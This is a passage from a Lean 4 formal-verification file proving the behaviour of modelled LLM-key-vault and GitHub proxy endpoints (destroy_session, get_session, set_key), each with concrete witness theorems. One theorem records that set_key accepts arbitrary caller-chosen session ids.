      (llmProxyServe now fresh req store).body = Json.obj [("success", Json.bool true)] ∧
      ((isBlank req.sessionId = true ∨
          lookupA (req.sessionId.getD "") (cleanupVault now store) = none) →
        (llmProxyServe now fresh req store).store = cleanupVault now store) ∧
      (llmProxyServe now fresh req (llmProxyServe now fresh req store).store).store =
        (llmProxyServe now fresh req store).store) ∧
    (∀ (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store : GhStore),
      req.action = "destroy_session" →
      (githubProxyServe now fresh up req store).status = 200 ∧
      (githubProxyServe now fresh up req store).body = Json.obj [("success", Json.bool true)] ∧
      ((isBlank req.sessionId = true ∨
          lookupA (req.sessionId.getD "") (cleanupGh now store) = none) →
        (githubProxyServe now fresh up req store).store = cleanupGh now store) ∧
      (githubProxyServe now fresh up req (githubProxyServe now fresh up req store).store).store =
        (githubProxyServe now fresh up req store).store) := by
  constructor
  · intro now fresh req store hact
    obtain ⟨act, osid, oprov, okey⟩ := req
    simp only at hact
    subst hact
    by_cases hb : isBlank osid = true
    · refine ⟨by simp [llmProxyServe, hb], by simp [llmProxyServe, hb], fun _ => by
        simp [llmProxyServe, hb], ?_⟩
      simp [llmProxyServe, hb, cleanupVault_idem]
    · refine ⟨by simp [llmProxyServe, hb], by simp [llmProxyServe, hb], ?_, ?_⟩
      · rintro (hbb | hlu)
        · exact absurd hbb hb
        · simp [llmProxyServe, hb, removeA_of_lookup_none hlu]
      · simp [llmProxyServe, hb, cleanupVault_removeA, removeA_idem]
  · intro now fresh up req store hact
    obtain ⟨act, otok, ottype, osid, oep, ometh⟩ := req
    simp only at hact
    subst hact
    by_cases hb : isBlank osid = true
    · refine ⟨by simp [githubProxyServe, hb], by simp [githubProxyServe, hb], fun _ => by
        simp [githubProxyServe, hb], ?_⟩
      simp [githubProxyServe, hb, cleanupGh_idem]
    · refine ⟨by simp [githubProxyServe, hb], by simp [githubProxyServe, hb], ?_, ?_⟩
      · rintro (hbb | hlu)
        · exact absurd hbb hb
        · simp [githubProxyServe, hb, removeA_of_lookup_none hlu]
      · simp [githubProxyServe, hb, cleanupGh_removeA, removeA_idem]

/-- Witness for C8: destroy of an unknown id on an empty table, in both
flavors, answers success and leaves the (swept) table unchanged, twice. -/
theorem destroy_session_spec_witness :
    (llmProxyServe 0 "f" ⟨"destroy_session", some "x", none, none⟩ []).status = 200 ∧
    (llmProxyServe 0 "f" ⟨"destroy_session", some "x", none, none⟩ []).store = [] ∧
    (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
      ⟨"destroy_session", none, none, some "x", none, none⟩ []).status = 200 ∧
    (githubProxyServe 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
      ⟨"destroy_session", none, none, some "x", none, none⟩ []).store = [] := by
  have h1 := destroy_session_spec.1 0 "f" ⟨"destroy_session", some "x", none, none⟩ [] rfl
  have h2 := destroy_session_spec.2 0 "f" ⟨200, true, Json.obj [], "p", none, none, none⟩
    ⟨"destroy_session", none, none, some "x", none, none⟩ [] rfl
  exact ⟨h1.1, h1.2.2.1 (Or.inr rfl), h2.1, h2.2.2.1 (Or.inr rfl)⟩

/-- C9: get_session with no usable session id (absent, empty, or not
resolving to a live session) inserts a brand-new empty session under the
freshly generated id and answers with that id, an empty providers list, and
the full TTL 86400 seconds; with an id resolving to a live session it
answers the same id, that session's provider names, and a remaining TTL in
seconds that — whenever the session was created no later than now — is
between 0 and the full 86400. -/
theorem get_session_spec :
    ∀ (now : Int) (fresh : String) (req : LlmRequest) (store : VaultStore),
      req.action = "get_session" →
      ((isBlank req.sessionId = true ∨
          lookupA (req.sessionId.getD "") (cleanupVault now store) = none) →
        (llmProxyServe now fresh req store).body =
          Json.obj [("sessionId", Json.str fresh), ("providers", Json.arr []),
            ("expiresIn", Json.num 86400)] ∧
        (llmProxyServe now fresh req store).store =
          setA fresh ⟨[], now⟩ (cleanupVault now store)) ∧
      (∀ (sid : String) (s : ApiKeySession),
        req.sessionId = some sid → isBlank req.sessionId = false →
        lookupA sid (cleanupVault now store) = some s →
        (llmProxyServe now fresh req store).body =
          Json.obj [("sessionId", Json.str sid), ("providers", providersJson s.keys),
            ("expiresIn", Json.num (max 0 (86400 - Int.fdiv (now - s.createdAt) 1000)))] ∧
        (s.createdAt ≤ now →
          0 ≤ max 0 (86400 - Int.fdiv (now - s.createdAt) 1000) ∧
          max 0 (86400 - Int.fdiv (now - s.createdAt) 1000) ≤ 86400)) := by
  intro now fresh req store hact
  obtain ⟨act, osid, oprov, okey⟩ := req
  simp only at hact
  subst hact
  constructor
  · rintro (hb | hlu)
    · constructor
      · simp [llmProxyServe, hb]
      · simp [llmProxyServe, hb]
    · by_cases hb : isBlank osid = true
      · constructor
        · simp [llmProxyServe, hb]
        · simp [llmProxyServe, hb]
      · constructor
        · simp [llmProxyServe, hb, hlu]
        · simp [llmProxyServe, hb, hlu]
  · intro sid s hsid hb hlu
    subst hsid
    refine ⟨by simp [llmProxyServe, hb, hlu], ?_⟩
    intro hle
    have hd : 0 ≤ Int.fdiv (now - s.createdAt) 1000 :=
      Int.fdiv_nonneg (by omega) (by norm_num)
    constructor
    · exact le_max_left 0 _
    · exact max_le (by norm_num) (by omega)

/-- Witness for C9: get_session with no id answers the fresh id "fr1" with
empty providers and full TTL and inserts the fresh session; get_session at a
live session answers its id, its provider names, and an in-range TTL. -/
theorem get_session_spec_witness :
    ((llmProxyServe 0 "fr1" ⟨"get_session", none, none, none⟩ []).body =
      Json.obj [("sessionId", Json.str "fr1"), ("providers", Json.arr []),
        ("expiresIn", Json.num 86400)] ∧
     (llmProxyServe 0 "fr1" ⟨"get_session", none, none, none⟩ []).store =
      [("fr1", ⟨[], 0⟩)]) ∧
    ((llmProxyServe 5000 "fr2" ⟨"get_session", some "s", none, none⟩
        [("s", ⟨[("openai", "k")], 0⟩)]).body =
      Json.obj [("sessionId", Json.str "s"),
        ("providers", Json.arr [Json.str "openai"]),
        ("expiresIn", Json.num 86395)]) := by
  have h1 := (get_session_spec 0 "fr1" ⟨"get_session", none, none, none⟩ [] rfl).1
    (Or.inl rfl)
  have h2 := (get_session_spec 5000 "fr2" ⟨"get_session", some "s", none, none⟩
    [("s", ⟨[("openai", "k")], 0⟩)] rfl).2 "s" ⟨[("openai", "k")], 0⟩ rfl (by decide)
    (by decide)
  refine ⟨⟨h1.1, ?_⟩, ?_⟩
  · rw [h1.2]
    rfl
  · rw [h2.1]
    rfl

/-- C10: in the vault flavor, set_key under a session id that is not in the
(swept) table creates a session keyed by exactly the caller-supplied string —
the universal quantifier ranges over every non-empty string, not only ids of
the fresh generated shape — with createdAt = now, stores the key under it,
and answers success with the one-element provider list. -/
theorem set_key_arbitrary_session_id :
    ∀ (now : Int) (fresh : String) (st : VaultStore) (sid p k : String),
      sid ≠ "" → p ≠ "" → k ≠ "" →
      lookupA sid (cleanupVault now st) = none →
      (llmProxyServe now fresh ⟨"set_key", some sid, some p, some k⟩ st).store =
        setA sid ⟨[(p, k)], now⟩ (cleanupVault now st) ∧
      lookupA sid (llmProxyServe now fresh ⟨"set_key", some sid, some p, some k⟩ st).store =
        some ⟨[(p, k)], now⟩ ∧
      (llmProxyServe now fresh ⟨"set_key", some sid, some p, some k⟩ st).status = 200 ∧
      (llmProxyServe now fresh ⟨"set_key", some sid, some p, some k⟩ st).body =
        Json.obj [("success", Json.bool true), ("providers", Json.arr [Json.str p])] := by
  intro now fresh st sid p k hsid hp hk hlu
  have hstore := set_key_store now fresh st sid p k hsid hp hk
  rw [hlu] at hstore
  simp only [Option.getD_none, setA] at hstore
  refine ⟨hstore, ?_, ?_, ?_⟩
  · rw [hstore]
    exact lookupA_setA_self _ _ _
  · simp [llmProxyServe, isBlank, hsid, hp, hk]
  · simp [llmProxyServe, isBlank, hsid, hp, hk, hlu, providersJson, setA]

/-- Witness for C10: a caller-chosen, non-random-looking session id string
is created verbatim with createdAt = now and holds the stored key. -/
theorem set_key_arbitrary_session_id_witness :
    (llmProxyServe 7 "fresh" ⟨"set_key", some "my weird id!", some "openai", some "k1"⟩ []).store =
      [("my weird id!", ⟨[("openai", "k1")], 7⟩)] ∧
    lookupA "my weird id!"
      (llmProxyServe 7 "fresh" ⟨"set_key", some "my weird id!", some "openai", some "k1"⟩
        []).store = some ⟨[("openai", "k1")], 7⟩ ∧
    (llmProxyServe 7 "fresh" ⟨"set_key", some "my weird id!", some "openai", some "k1"⟩ []).status
      = 200 := by
  have h := set_key_arbitrary_session_id 7 "fresh" [] "my weird id!" "openai" "k1"
    (by decide) (by decide) (by decide) (by decide)
  refine ⟨?_, h.2.1, h.2.2.1⟩
  · rw [h.1]
    rfl

end ChefWrapper
